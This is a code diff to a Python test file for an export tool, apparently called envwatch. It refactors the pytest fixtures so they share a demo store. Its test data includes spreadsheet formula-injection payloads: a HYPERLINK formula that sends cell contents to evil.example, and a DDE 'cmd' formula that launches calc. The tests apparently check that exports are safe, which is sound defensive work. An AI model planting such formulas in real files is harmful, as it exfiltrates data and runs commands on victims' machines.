@@ -13,7 +13,7 @@ import openpyxl
 import pandas as pd
 import pytest
 from click.testing import CliRunner, Result
-from demo import Demo, demo_copy, demo_store
+from demo import Demo, demo_copy
 
 import envwatch
 from envwatch import export as export_module
@@ -24,8 +24,8 @@ from envwatch.export import export
 
 
 @pytest.fixture(scope="module")
-def demo(tmp_path_factory: pytest.TempPathFactory) -> Demo:
-    return demo_store(tmp_path_factory)
+def demo(demo_store: Demo) -> Demo:
+    return demo_store
 
 
 def _export(demo: Demo, *args: str) -> Result:
@@ -177,9 +177,9 @@ HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
 
 
 @pytest.fixture(scope="module")
-def hostile(tmp_path_factory: pytest.TempPathFactory) -> Demo:
+def hostile(tmp_path_factory: pytest.TempPathFactory, demo_store: Demo) -> Demo:
     """A copy of the demo store whose station names came from a hostile staff sheet."""
-    copy = demo_copy(tmp_path_factory, tmp_path_factory.mktemp("hostile"))
+    copy = demo_copy(demo_store, tmp_path_factory.mktemp("hostile"))
     names = {
         "1236A": HOSTILE,
         "1235A": "+1+cmd|' /C calc'!A0",
